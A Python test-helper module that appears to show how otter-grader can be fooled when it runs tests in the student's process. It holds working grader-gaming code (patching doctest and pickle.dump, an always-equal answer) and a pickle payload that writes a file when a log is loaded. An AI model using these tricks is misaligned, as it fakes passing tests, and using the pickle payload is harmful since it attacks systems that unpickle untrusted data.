"""Tricks that earn points where otter-grader runs tests in the student's own process, and a small grader that does so.

Each is code at the top of a notebook whose answers are wrong, or whose answer is an object that agrees with everything.
"""

from __future__ import annotations

import io
import json
import pickle
import subprocess
import sys

from helpers.otter import block, code, config, question, text

CELLS = [
    config("name: hw\nexport_cell: false"),
    question(
        "name: q1\npoints: 2",
        text("Twenty-five."),
        block("solution", code("x = 25 # SOLUTION")),
        block("tests", code("x == 25", "True"), code("# HIDDEN\nx * 2 == 50", "True")),
    ),
]
RIGHT, WRONG = "x = 25", "x = 3"

TRICKS = {
    "a doctest runner that finds no failure": (
        "import doctest\nclass Passed:\n    failed = 0\ndoctest.DocTestRunner.summarize = lambda *a, **k: Passed"
    ),
    "a check that says that all passes": (
        "import sys, types\n"
        "try:\n    import otter.test_files.ok_test as graders\n"
        "except ImportError:\n    graders = sys.modules['__main__']\n"
        "graders.run_doctest = lambda *a, **k: (True, '')"
    ),
    "results that are changed when they are pickled": (
        "import pickle\n"
        "dump = pickle.dump\n"
        "def improved(results, file, *more):\n"
        "    for test in results.results.values():\n"
        "        for case in test.test_case_results:\n"
        "            case.passed = True\n"
        "    dump(results, file, *more)\n"
        "pickle.dump = improved"
    ),
}
"""Name of a trick → code that stands above a wrong answer."""

AGREES = (
    "class Yes:\n"
    "    def __eq__(self, other): return True\n"
    "    def __mul__(self, other): return self\n"
    "    def __repr__(self): return 'True'\n"
    "    def __hash__(self): return 1\n"
    "x = Yes()"
)
"""Answer that equals every number."""


class Opened:
    """Object in a log whose unpickling writes a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def poisoned_log(marker: str) -> bytes:
    """The content of an .OTTER_LOG that writes the file ``marker`` when it is read."""
    log = io.BytesIO()
    pickle.dump(Opened(marker), log)
    return log.getvalue()


IN_ONE_PROCESS = """
import doctest, io, json, os, pickle, sys, types
from contextlib import redirect_stdout

def run_doctest(name, source, names):  # what otter's test files do, in the student's process
    test = doctest.DocTestParser().get_doctest(source, names, name, None, None)
    runner = doctest.DocTestRunner(verbose=True)
    with redirect_stdout(io.StringIO()):
        runner.run(test, clear_globs=False)
        return runner.summarize(verbose=True).failed == 0, ""

job = json.load(sys.stdin)
names = {"__name__": "student"}
for cell in job["cells"]:
    exec(cell, names)
cases = []
for source in job["cases"]:
    case = types.SimpleNamespace()
    case.passed = sys.modules["__main__"].run_doctest("q1", source, names)[0]
    cases.append(case)
results = types.SimpleNamespace(results={"q1": types.SimpleNamespace(test_case_results=cases)})
with open(os.devnull, "wb") as file:
    pickle.dump(results, file)
print(json.dumps([case.passed for case in cases]))
"""
"""A grader of otter's kind: cells and tests run in one process, which writes down the results itself."""


def points_in_one_process(*cells: str) -> float:
    """Points of the question, as a grader gives them that runs its tests in the student's process."""
    job = {"cells": cells, "cases": [">>> x == 25\nTrue", ">>> x * 2 == 50\nTrue"]}
    done = subprocess.run(
        [sys.executable, "-c", IN_ONE_PROCESS], input=json.dumps(job), capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    return float(sum(json.loads(done.stdout.splitlines()[-1])))
